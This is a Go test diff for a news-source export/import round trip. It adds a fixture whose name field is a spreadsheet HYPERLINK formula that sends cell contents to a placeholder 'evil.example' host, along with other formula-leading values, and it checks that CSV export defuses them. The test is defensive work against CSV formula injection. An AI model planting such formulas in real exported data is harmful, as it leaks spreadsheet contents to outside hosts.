@@ -270,6 +270,9 @@ func TestRoundTrip(t *testing.T) {
 			Sitemaps: []string{"https://a.example/news.xml"}, Focus: "migration", Owner: "Grupo A", Active: true,
 			Schedule: "0 * * * *", Verified: true, Evidence: "seen\non two lines", Notes: "ñandú, acentos",
 			Listings: []observatory.Listing{{URL: "https://a.example/list", LinkSelector: "article h2 > a"}, {URL: "https://a.example/b", LinkSelector: ".t a"}}},
+		// cells a spreadsheet would run as formulas
+		{ID: "gt-c", Name: `=HYPERLINK("https://evil.example/?"&A1,"C")`, Country: "GT", Medium: "online", Homepage: "https://c.example/",
+			Languages: []string{"es"}, Owner: "@grupo", Notes: "+502 2411-1111", Evidence: "-1 fuente"},
 		{ID: "ni-b", Name: "B", Country: "NI", Medium: "online", Homepage: "https://b.example/", Languages: []string{"es"}},
 	}
 	for i := range in {
@@ -282,8 +285,11 @@ func TestRoundTrip(t *testing.T) {
 			if err := sources.Export(&buf, in, format); err != nil {
 				t.Fatal(err)
 			}
+			if format == "csv" && (!strings.Contains(buf.String(), `"'=HYPERLINK(`) || strings.Contains(buf.String(), ",@grupo")) {
+				t.Errorf("formula cells not defused:\n%s", buf.String())
+			}
 			rep := importString(t, db, buf.String(), "")
-			checkCounts(t, "import", rep, 2, 0, 0, 0)
+			checkCounts(t, "import", rep, len(in), 0, 0, 0)
 			equalRecords(t, all(t, db), in)
 
 			var again bytes.Buffer
